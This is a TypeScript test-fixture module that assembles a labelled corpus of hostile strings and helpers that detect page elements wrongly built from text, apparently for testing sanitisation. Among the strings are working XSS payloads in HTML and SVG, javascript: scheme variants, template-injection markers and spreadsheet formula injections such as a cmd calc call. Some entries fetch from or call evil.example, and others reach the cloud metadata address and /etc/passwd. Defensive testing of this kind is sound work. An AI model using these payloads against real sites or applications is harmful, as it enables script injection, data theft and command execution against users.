/** A text that is made to be taken for something else than text. */
export interface HostileText {
	readonly kind: string;
	readonly text: string;
}

/** What every script among them does: a page where it is set has run one. */
const PWN = "window.__pwn=1";
const each = <T>(list: readonly T[], make: (one: T) => string): string[] => list.map(make);
const code = (...points: number[]): string => String.fromCodePoint(...points);
const span = (from: number, to: number): number[] => Array.from({ length: to - from + 1 }, (_, i) => from + i);

const TAGS =
	"img image video audio source input body iframe object embed details marquee select textarea keygen form isindex".split(
		" ",
	);
const EVENTS = "onerror onload onfocus onmouseover onclick ontoggle onstart onanimationstart onpointerenter".split(" ");
const SCHEMES = [
	"javascript:",
	"JaVaScRiPt:",
	"java\tscript:",
	"java\nscript:",
	" javascript:",
	"\u0001javascript:",
	"vbscript:",
	"data:text/html,",
	"data:text/html;base64,",
	"blob:",
	"jar:",
	"view-source:javascript:",
	"javascript&colon;",
	"&#106;avascript:",
	"\\x6Aavascript:",
];
/** With `§` for the dollar sign, which would begin a template of our own. */
const MARKERS =
	`{{7*7}}|{{constructor.constructor('${PWN}')()}}|§{7*7}|§{${PWN}}|<%= 7*7 %>|<% code %>|#{7*7}|[[7*7]]|[(§{7*7})]|{%raw%}|{7*7}
@{7*7}|@(7*7)|%{7*7}|*{7*7}|~{7*7}|{{{x}}}|<#if 1>|§(7*7)|%s%n%x|%00|§&§1§§'|<!--#exec cmd='x'-->|<?php x ?>|<?xml version='1.0'?>|]]>|<![CDATA[x]]>|{§x}|:x:|{x|y}`
		.replaceAll("§", "$")
		.split(/[|\n]/)
		.concat("\\u003cscript\\u003e", "`$".concat("{7*7}`"));
const NAMES = [
	"__proto__",
	"constructor",
	"prototype",
	"toString",
	"hasOwnProperty",
	"valueOf",
	"__defineGetter__",
	"undefined",
	"null",
	"NaN",
	"true",
	"[object Object]",
	"-0",
	"1e309",
	"length",
	"then",
];
const FORMULAS = [
	"=1+1",
	"+1+1",
	"-1+1",
	"@SUM(1)",
	'=HYPERLINK("https://evil.example/","x")',
	"=cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"＝1+1",
	"＋1",
	"－1",
	"＠SUM(1)",
	"−1+1",
	"'=1+1",
	"''=1",
	" =1+1",
	"\u200B=1+1",
	"\uFEFF=1+1",
	";=1+1",
	",=1+1",
	'"=1+1',
	'=WEBSERVICE("https://evil.example/")',
	'=IMPORTXML("https://evil.example/")',
	"%=1",
	"|=1",
];
const STYLES = [
	"</style><style>*{display:none}",
	"\\3c script\\3e",
	"expression(alert(1))",
	"url(javascript:alert(1))",
	"@import 'https://evil.example/x.css'",
	"};*{background:url(https://evil.example/x)}",
	"\\0000",
	"\\",
	"/*",
	"*/",
	"<!--",
	"-->",
	"behavior:url(x)",
	"-moz-binding:url(x)",
	"content:'\\201C'",
	"var(--x)",
	"#id .class[attr]",
	"\\000041",
	"@charset 'x'",
	";position:fixed",
];
const REMOTE = [
	"https://evil.example/x.png",
	"//evil.example/x",
	"\\\\evil.example\\share",
	"http://169.254.169.254/",
	"file:///etc/passwd",
	"ftp://evil.example/",
	"mailto:x@evil.example",
	"tel:+1",
	"ws://evil.example/",
	"https://xn--80ak6aa92e.com/",
];
const BREAKS = [
	'"',
	"'",
	"`",
	'"><script>',
	"'><script>",
	"</title><script>",
	"</textarea><script>",
	"</script><script>",
	"--><script>",
	"</a><a href=x>",
	'" onfocus=x autofocus a="',
	"' onfocus=x autofocus '",
	"/><x",
	"&quot;><x",
	"&#34;>",
	"&lt;script&gt;",
	"&amp;lt;",
	"&#x3c;script>",
	"&#0;",
	"&NewLine;",
];
const JSONS = ['{"a":1}', "[1,2]", '\\"', "\\u0000", '","__proto__":{"x":1}', "\u2028", "\u2029", "//x\n", "\uFEFF{}"];
const FAMILIES = [
	"👩‍👩‍👧‍👦",
	"🏳️‍🌈",
	"👨🏿‍🚀",
	"🇬🇧",
	"🏴󠁧󠁢󠁥󠁮󠁧󠁿",
	"👁️‍🗨️",
	"❤️‍🔥",
	"🧑🏽‍🤝‍🧑🏿",
	"1️⃣",
	"#️⃣",
	"👩‍❤️‍💋‍👨",
	"🫱🏻‍🫲🏿",
	"☠️",
	"‍👩",
	"👩‍",
	"️",
	"🏿",
	"🇬",
	"🇬🇧🇬",
	"👩‍👩‍👩‍👩‍👩‍👩",
];

const KINDS: Readonly<Record<string, readonly string[]>> = {
	html: [
		`<script>${PWN}</script>`,
		`<ScRiPt src=https://evil.example/x.js></sCrIpT>`,
		`<scr<script>ipt>${PWN}</script>`,
		`<base href=https://evil.example/>`,
		`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
		`<link rel=stylesheet href=https://evil.example/x.css>`,
		`<link rel=dns-prefetch href=//evil.example>`,
		`<template><img src=x onerror=${PWN}></template>`,
		`<div is=x-y slot=a popover>`,
		...each(TAGS, (tag) => `<${tag} src=x onerror=${PWN} autofocus onfocus=${PWN}>`),
		...each(EVENTS, (event) => `<b ${event}=${PWN} style=animation:x>x</b>`),
	],
	svg: [
		...each(EVENTS, (event) => `<svg ${event}=${PWN}>`),
		`<svg><script>${PWN}</script></svg>`,
		`<svg><animate onbegin=${PWN} attributeName=x dur=1s>`,
		`<svg><a xlink:href="javascript:${PWN}"><text y=9>x</text></a></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x onload=${PWN}/>#x">`,
		`<svg><foreignObject><iframe srcdoc="<script>parent.${PWN}</script>">`,
		`<math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
		`<svg><style>@import "https://evil.example/x.css"</style>`,
	],
	address: each(SCHEMES, (scheme) => `${scheme}${PWN}`),
	remote: REMOTE,
	bidi: [
		...each(
			[0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x61c],
			(c) => `pay ${code(c)}gnp.exe`,
		),
		"\u202Eunclosed \u202Eagain \u202E",
		"שלום <b>עולם</b> 123",
		"abc (\u202E)cba(",
	],
	invisible: [
		...each(
			[0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0xad, 0x34f, 0x180e, 0x3164, 0xffa0, 0x2800, 0x115f, 0x17b4],
			(c) => `in${code(c)}visible`,
		),
		"\u200B\u200B\u200B",
		"\uFEFF",
		`a${"\u200D".repeat(500)}b`,
	],
	control: each([...span(0, 31), 0x7f, 0x80, 0x85, 0x90, 0x9b, 0x9f], (c) => `con${code(c)}trol`),
	surrogates: [
		"lone\uD800",
		"\uDC00lone",
		"\uD800\uD800",
		"\uDC00\uD800",
		"a\uDFFFb",
		"\uFFFE\uFFFF",
		"\u{1FFFE}",
		"\u{10FFFF}",
		"\uFFFD",
		"\uD83D \uDE00",
	],
	long: [
		"x".repeat(1_000_000),
		`${"<b>".repeat(2000)}`,
		`a${"\u0301".repeat(5000)}`,
		"word ".repeat(3000),
		"\n".repeat(1000),
		"Ⅷ".repeat(2000),
	],
	template: MARKERS,
	name: NAMES,
	formula: FORMULAS,
	style: STYLES,
	break: BREAKS,
	json: JSONS,
	emoji: FAMILIES,
	alike: ["Аdmin", "ｓｃｒｉｐｔ", "＜script＞", "ﬀ", "e\u0301", "\u00e9", "İ", "ı", "ß", "ſ", "\u212A", "\u2126"],
};

/** More than three hundred, by kinds. */
export const HOSTILE: readonly HostileText[] = Object.entries(KINDS).flatMap(([kind, texts]) =>
	texts.map((text) => ({ kind, text })),
);

/** Each once, with a text as long as a page can be shown with still. */
export const SHOWABLE: readonly HostileText[] = HOSTILE.filter(({ text }) => text.length < 20_000);

/** Every element below a root, in shadow roots too, as its name and the names of its attributes. */
export function builtOf(root: ParentNode): Set<string> {
	const built = new Set<string>();
	for (const element of root.querySelectorAll("*")) {
		built.add(element.localName);
		for (const name of element.getAttributeNames()) built.add(`${element.localName} ${name}`);
		if (element.shadowRoot) for (const inside of builtOf(element.shadowRoot)) built.add(inside);
	}
	return built;
}

/** Elements and attributes that are there with a hostile text and not with a plain one. */
export const madeOfText = (plain: ReadonlySet<string>, root: ParentNode): string[] =>
	[...builtOf(root)].filter((one) => !plain.has(one));
